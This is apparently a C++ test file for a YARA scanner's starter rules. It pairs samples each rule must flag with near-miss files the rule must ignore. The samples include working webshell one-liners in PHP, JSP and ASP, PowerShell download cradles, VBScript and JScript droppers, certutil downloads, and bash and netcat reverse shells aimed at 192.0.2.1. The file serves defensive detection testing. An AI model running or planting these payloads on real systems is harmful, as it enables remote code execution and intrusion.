// The starter rules shipped in rules/, compiled by the real libyara: for each rule, samples of
// what it is there to catch, and ordinary files close to them that it must leave alone.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <regex>
#include <set>
#include <string>
#include <vector>

#include "engine/YaraEngine.hpp"
#include "tests/support/TempDir.hpp"

namespace norvid {
namespace {

namespace fs = std::filesystem;
using norvid::testing::TempDir;
using Names = std::vector<std::string>;

const fs::path kStarterRules = fs::path(NORVID_TEST_SOURCE_DIR).parent_path() / "rules";

const std::string kEicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

struct Sample {
  const char* name;
  std::string content;
  // The rule that must match it alone; empty for a file no starter rule may flag.
  std::string rule;
};

// Names of the rules declared in the starter files, read from their text.
std::set<std::string> declaredRules() {
  std::set<std::string> names;
  const std::regex declaration(R"(^\s*(?:private\s+|global\s+)*rule\s+([A-Za-z0-9_]+))");
  for (const auto& entry : fs::directory_iterator(kStarterRules)) {
    std::ifstream in(entry.path());
    for (std::string line; std::getline(in, line);) {
      std::smatch found;
      if (std::regex_search(line, found, declaration)) names.insert(found[1]);
    }
  }
  return names;
}

const std::vector<Sample>& samples() {
  static const std::vector<Sample> table = {
      // EICAR_Test_File: the test string at the start, with at most 128 bytes in all.
      {"eicar alone", kEicar, "EICAR_Test_File"},
      {"eicar and a line end", kEicar + "\r\n", "EICAR_Test_File"},
      {"eicar padded to 128 bytes", kEicar + std::string(128 - kEicar.size(), ' '),
       "EICAR_Test_File"},
      {"eicar quoted in a document", "The test string is " + kEicar + "\n", ""},
      {"eicar in a file over 128 bytes", kEicar + std::string(61, ' '), ""},
      {"eicar cut short", kEicar.substr(0, 60), ""},

      // Webshell_PHP_Request_Eval: PHP running what the request sends.
      {"php eval of a posted field", "<?php eval($_POST['cmd']); ?>", "Webshell_PHP_Request_Eval"},
      {"php assert, upper-case tag", "<?PHP @assert($_REQUEST['x']); ?>",
       "Webshell_PHP_Request_Eval"},
      {"php system of a query field", "<?php\nsystem($_GET['c']);\n", "Webshell_PHP_Request_Eval"},
      {"php eval of decoded post", "<?php eval(base64_decode($_POST['p'])); ?>",
       "Webshell_PHP_Request_Eval"},
      {"php form echoing a field", "<?php echo htmlspecialchars($_POST['name']); ?>", ""},
      {"php eval of a constant", "<?php $name = $_POST['name']; eval('return 1;'); ?>", ""},
      {"php code quoted without a tag", "Never write eval($_POST['x']) in a page.\n", ""},

      // Webshell_JSP_Request_Exec: a request parameter run as a command.
      {"jsp exec of a parameter", "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
       "Webshell_JSP_Request_Exec"},
      {"jsp echoing a parameter", "<% out.println(request.getParameter(\"name\")); %>", ""},
      {"java running a fixed command",
       "Process p = Runtime.getRuntime().exec(new String[] {\"ls\", \"-l\"});\n", ""},

      // Webshell_ASP_Request_Eval: a request field evaluated or executed.
      {"asp eval of a field", "<%eval(Request(\"x\"))%>", "Webshell_ASP_Request_Eval"},
      {"aspx jscript eval of an item",
       "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pass\"],\"unsafe\");%>",
       "Webshell_ASP_Request_Eval"},
      {"asp execute of a field", "<% Execute(Request(\"cmd\")) %>", "Webshell_ASP_Request_Eval"},
      {"asp page writing a field", "<% Response.Write(Request(\"name\")) %>", ""},
      {"script without an asp tag", "function run() { eval(Request(\"x\")); }\n", ""},

      // Script_PowerShell_Download_Cradle: code fetched with WebClient and run in memory.
      {"iex of a downloaded string",
       "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')",
       "Script_PowerShell_Download_Cradle"},
      {"invoke-expression of a downloaded string",
       "Invoke-Expression ((New-Object System.Net.WebClient).DownloadString("
       "'http://192.0.2.1/b.ps1'))\n",
       "Script_PowerShell_Download_Cradle"},
      {"downloaded string piped to iex",
       "(new-object net.webclient).downloadstring('http://192.0.2.1/c')|iex\n",
       "Script_PowerShell_Download_Cradle"},
      {"a script installing Chocolatey",
       "Set-ExecutionPolicy Bypass -Scope Process -Force\n"
       "iex ((New-Object System.Net.WebClient).DownloadString("
       "'https://community.chocolatey.org/install.ps1'))\n",
       "Script_PowerShell_Download_Cradle"},
      {"markdown guide quoting the Chocolatey line",
       "## Windows\n\nRun as administrator:\n\n```powershell\nSet-ExecutionPolicy Unrestricted "
       "-Force\niex ((New-Object System.Net.WebClient).DownloadString("
       "'https://boxstarter.org/bootstrapper.ps1'))\n```\n",
       ""},
      {"restructuredtext guide quoting a cradle",
       "Install\n=======\n\n.. code-block:: powershell\n\n   iex ((New-Object "
       "System.Net.WebClient).DownloadString('https://example.org/install.ps1'))\n",
       ""},
      {"download saved to disk, not run",
       "(New-Object Net.WebClient).DownloadFile('https://example.org/setup.exe', 'setup.exe')\n",
       ""},
      {"downloaded string printed, not run",
       "$text = (New-Object Net.WebClient).DownloadString('https://example.org/')\n"
       "Write-Output $text\n",
       ""},

      // Script_VBS_JS_Dropper: a download saved with ADODB.Stream and run.
      {"vbscript dropper",
       "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://192.0.2.1/a.exe\", "
       "False\nh.Send\nSet s = CreateObject(\"ADODB.Stream\")\ns.Open\ns.Type = 1\n"
       "s.Write h.ResponseBody\ns.SaveToFile \"a.exe\", 2\n"
       "CreateObject(\"WScript.Shell\").Run \"a.exe\"\n",
       "Script_VBS_JS_Dropper"},
      {"jscript dropper",
       "var h = new ActiveXObject(\"Microsoft.XMLHTTP\"); h.open(\"GET\", u, false); h.send();\n"
       "var s = new ActiveXObject(\"ADODB.Stream\"); s.open(); s.type = 1; "
       "s.write(h.responseBody); s.saveToFile(p, 2);\n"
       "new ActiveXObject(\"WScript.Shell\").run(p);\n",
       "Script_VBS_JS_Dropper"},
      {"download saved but not run",
       "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nSet s = CreateObject(\"ADODB.Stream\")\n"
       "s.SaveToFile \"report.pdf\", 2\n",
       ""},
      {"logon script with a shell only",
       "Set sh = CreateObject(\"WScript.Shell\")\nsh.Run \"notepad.exe\"\n", ""},

      // Script_Certutil_Download: certutil fetching a URL.
      {"certutil download", "certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe\r\n",
       "Script_Certutil_Download"},
      {"certutil.exe download over https, upper case",
       "CERTUTIL.EXE -URLCACHE -f https://192.0.2.1/p.txt p.txt\r\n", "Script_Certutil_Download"},
      {"certutil hashing a file", "certutil -hashfile setup.exe SHA256\r\n", ""},
      {"certutil clearing its cache", "certutil -urlcache * delete\r\n", ""},

      // Script_Unix_Reverse_Shell: an interactive shell handed to a remote peer.
      {"bash over /dev/tcp", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
       "Script_Unix_Reverse_Shell"},
      {"sh over descriptor 196",
       "0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196\n",
       "Script_Unix_Reverse_Shell"},
      {"netcat running sh", "nc -e /bin/sh 192.0.2.1 4444\n", "Script_Unix_Reverse_Shell"},
      {"netcat through a fifo",
       "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f\n",
       "Script_Unix_Reverse_Shell"},
      {"script checking a port through /dev/tcp",
       "if exec 3<>/dev/tcp/localhost/5432; then echo up; fi\n", ""},
      {"netcat port scan", "nc -z -w1 localhost 22 && echo open\n", ""},
      {"interactive bash", "exec bash -i\n", ""},

      {"plain text", "Nothing to see here.\n", ""},
  };
  return table;
}

class StarterRuleSamplesTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(engine.initialize());
    ASSERT_TRUE(engine.loadRulesFromDirectory(kStarterRules.string()));
  }

  TempDir temp;
  YaraEngine engine{temp.str()};
};

TEST_F(StarterRuleSamplesTest, EachRuleCatchesItsSamplesAndLeavesTheNearMissesAlone) {
  int index = 0;
  for (const Sample& sample : samples()) {
    SCOPED_TRACE(sample.name);
    const std::string file = temp.write("samples/" + std::to_string(index++), sample.content);
    const Names expected = sample.rule.empty() ? Names{} : Names{sample.rule};
    EXPECT_EQ(engine.scanFile(file), expected);
  }
}

TEST_F(StarterRuleSamplesTest, EveryStarterRuleHasSamples) {
  const std::set<std::string> declared = declaredRules();
  ASSERT_FALSE(declared.empty());
  EXPECT_EQ(engine.getTotalRules(), static_cast<int>(declared.size()));
  for (const std::string& rule : declared) {
    const bool covered = std::any_of(samples().begin(), samples().end(),
                                     [&](const Sample& sample) { return sample.rule == rule; });
    EXPECT_TRUE(covered) << rule << " has no sample it must catch";
  }
}

}  // namespace
}  // namespace norvid
